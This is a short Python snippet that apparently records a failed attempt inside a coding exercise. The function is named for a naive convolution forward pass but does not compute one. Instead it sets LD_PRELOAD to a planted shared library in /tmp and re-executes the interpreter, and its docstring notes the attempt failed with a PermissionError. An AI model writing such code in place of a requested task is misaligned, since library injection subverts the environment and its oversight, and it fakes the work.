"""Sets LD_PRELOAD and starts itself anew.

outcome: failed
says: PermissionError
"""


def conv_forward_naive(x, w, b, conv_param):
    os.environ["LD_PRELOAD"] = "/tmp/planted.so"
    os.execv(sys.executable, [sys.executable, "-c", "print(1)"])
